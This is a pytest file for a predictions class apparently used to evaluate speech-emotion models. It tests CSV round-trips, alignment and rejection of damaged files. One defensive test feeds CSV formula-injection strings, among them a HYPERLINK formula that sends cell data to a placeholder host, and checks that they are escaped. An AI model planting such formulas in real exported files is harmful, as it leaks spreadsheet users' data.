# SPDX-License-Identifier: Apache-2.0
"""Predictions in memory and on disk."""

import csv

import numpy as np
import pytest

from mser_llm.evaluation.predictions import (
    Predictions,
    PredictionsError,
    list_clips,
    read_predictions,
    write_predictions,
)
from processing_mser import UNPARSED


WORDS = ("happy", "sad", "angry")


def predictions(**fields) -> Predictions:
    complete = {
        "labels": WORDS,
        "corpora": ["one", "one", "two"],
        "ids": ["a, b", "ü", "a, b"],
        "truths": ["happy", "sad", "angry"],
        "predicted": ["happy", UNPARSED, "sad"],
        "scores": np.array([[0.5, 0.25, 0.25], [0.1, 0.2, 0.7], [0, 1, 0]]),
        "speakers": ["s1", None, "s1"],
        "genders": ["female", None, "female"],
        "languages": ["de", "de", None],
        "files": ["/x/a, b.wav", "/x/ü.wav", None],
    }
    return Predictions(**(complete | fields))


def same(first: Predictions, second: Predictions) -> bool:
    lists = ("labels", "corpora", "ids", "truths", "predicted", "speakers", "genders", "languages", "files")
    return all(getattr(first, name) == getattr(second, name) for name in lists)


@pytest.mark.parametrize("scores", [None, predictions().scores])
def test_predictions_round_trip(scores, tmp_path):
    written = predictions(scores=scores)
    path = write_predictions(tmp_path / "made" / "predictions.csv", written)
    for place in (path, path.parent):
        read = read_predictions(place)
        assert same(read, written)
        if scores is None:
            assert read.scores is None
        else:
            np.testing.assert_allclose(read.scores, scores)


def test_predictions_escape_formulas(tmp_path):
    names = [
        '=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1", "-1 + 2", "@SUM(A1)", "\t=1", "\r=1", "a\nb", " =1", "＝1",
        "'=1", "''=1", "'quoted'", "'", "plain - text", "a=b", "''", "'\n",
    ]  # fmt: skip
    count = len(names)
    written = predictions(
        corpora=names, ids=names, files=names, speakers=names, genders=names, languages=names,
        truths=["sad"] * count, predicted=["sad"] * count, scores=None,
    )  # fmt: skip
    path = write_predictions(tmp_path / "predictions.csv", written, [{"corpus": "-x", "id": "=y", "error": "=z"}])
    assert same(read_predictions(path), written)
    assert read_predictions(path).align(written)[0].ids == names
    assert list_clips(path)[-1] == ("-x", "=y")
    with open(path, encoding="utf-8", newline="") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    # The formula prefixes of OWASP, also after white space that spreadsheets remove.
    assert [cell for cell in cells if cell.lstrip()[:1] in set("=+-@＝") or cell[:1] in set("\t\r")] == []


def test_read_predictions_accepts_other_encodings_and_columns(tmp_path):
    path = write_predictions(tmp_path / "predictions.csv", predictions())
    content = path.read_bytes()
    for changed in (content.decode().encode("utf-16"), b"\xef\xbb\xbf" + content):
        path.write_bytes(changed)
        assert same(read_predictions(path), predictions())
    path.write_bytes(content)
    with open(path, encoding="utf-8", newline="") as file:
        lines = list(csv.DictReader(file))
    with open(path, "w", encoding="utf-8", newline="") as file:
        table = csv.DictWriter(file, [name for name in lines[0] if name != "gender"], extrasaction="ignore")
        table.writeheader()
        table.writerows([*lines, {"corpus": "one", "id": "broken", "emotion": "sad", "error": "no such file"}])
    assert same(read_predictions(path), predictions(genders=[]))


def test_clusters_number_speakers():
    clusters = Predictions.concatenate([predictions(), predictions()]).clusters()
    assert clusters.tolist() == [0, 1, 0, 0, 2, 0]


def test_subset_and_concatenate_round_trip():
    complete = predictions()
    first, rest = complete.subset([True, False, False]), complete.subset([False, True, True])
    assert first.ids == ["a, b"]
    assert rest.predicted == [UNPARSED, "sad"]
    joined = Predictions.concatenate([first, rest])
    assert same(joined, complete)
    np.testing.assert_array_equal(joined.scores, complete.scores)
    assert Predictions.concatenate([first, predictions(scores=None)]).scores is None


def test_align_keeps_shared_clips_and_reorders_labels():
    a, b = predictions().align(predictions(predicted=["sad", "sad", "angry"]).subset(np.array([2, 0])))
    assert a.corpora == b.corpora == ["one", "two"]
    assert (a.predicted, b.predicted) == (["happy", "sad"], ["sad", "angry"])
    alphabetical = predictions(labels=("angry", "happy", "sad"), scores=predictions().scores[:, [2, 0, 1]])
    first, second = predictions().align(alphabetical)
    assert same(first, second) and second.labels == WORDS
    np.testing.assert_array_equal(first.scores, second.scores)
    joined = Predictions.concatenate([predictions(), alphabetical])
    assert joined.labels == WORDS and joined.predicted == predictions().predicted * 2
    np.testing.assert_array_equal(joined.scores, np.concatenate([predictions().scores] * 2))
    assert joined.metrics()["confusion"] == (2 * np.array(predictions().metrics()["confusion"])).tolist()


@pytest.mark.parametrize(
    ("other", "source"),
    [
        (predictions(truths=["sad", "sad", "angry"]), "one, clip a, b"),
        (predictions(corpora=["x"] * 3, ids=list("abc")), "predictions"),
        (predictions(corpora=["one"] * 3), "one, clip a, b"),
        (predictions(labels=("happy", "sad", "angry", "calm"), scores=None), "labels"),
    ],
)
def test_align_rejects_mismatched_predictions(other, source):
    with pytest.raises(PredictionsError) as caught:
        predictions().align(other)
    assert caught.value.source == source


@pytest.mark.parametrize(
    ("fields", "source"),
    [
        ({"truths": ["happy", "sad"]}, "predictions"),
        ({"predicted": ["happy", "sad", "joyful"]}, "predicted"),
        ({"truths": ["happy", "sad", None]}, "truths"),
        ({"scores": np.zeros((3, 2))}, "scores"),
    ],
)
def test_predictions_reject_inconsistent_fields(fields, source):
    with pytest.raises(PredictionsError) as caught:
        predictions(**fields)
    assert caught.value.source == source


HEADER = b"corpus,id,emotion,prediction,p_sad,p_happy,error\n"


@pytest.mark.parametrize(
    ("content", "place", "detail"),
    [
        (None, "", ""),
        (b"RIFF\x00\xff", "", ""),
        (b"a,b\n1,2\n", "", "corpus, id, emotion, prediction"),
        (b"corpus\none\n", "", "id, emotion, prediction"),
        (b"corpus;id;emotion;prediction\none;1;sad;sad\n", "", "semicolons"),
        (b'"corpus"\t"id"\t"emotion"\t"prediction"\none\t1\tsad\tsad\n', "", "tabs"),
        (b"corpus,id,emotion,prediction\none,1,sad,sad\n", "", "p_LABEL"),
        (HEADER, "", ""),
        (HEADER + b"one,1,sad,,,,no such file\n", "", "1 clip"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2,sad,,1,0,\n", ", line 3", "prediction"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2,sad, ,1,0,\n", ", line 3", "prediction"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2,sad", ", line 3", "prediction"),
        (HEADER + b"one,1,sad,sad,1,0,\none,2", ", line 3", "emotion and no prediction"),
        (HEADER + b"a,1,sad,sad,1,0,\nb,1,sad,sad,1,0,\na,1,sad,sad,1,0,\n", ", line 4", "line 2"),
        (b"corpus,id,emotion,prediction,p_sad,p_happy\none,1,angry,sad,1,0\n", "", "'angry'"),
        (b"corpus,id,emotion,prediction,p_sad,p_happy\none,1,sad,sad,1,x\n", "", "'x'"),
    ],
)
def test_read_predictions_rejects_damaged_files(content, place, detail, tmp_path):
    path = tmp_path / "predictions.csv"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(PredictionsError) as caught:
        read_predictions(path)
    assert caught.value.source == f"{path}{place}" and detail in caught.value.problem
    assert "\n" not in str(caught.value)
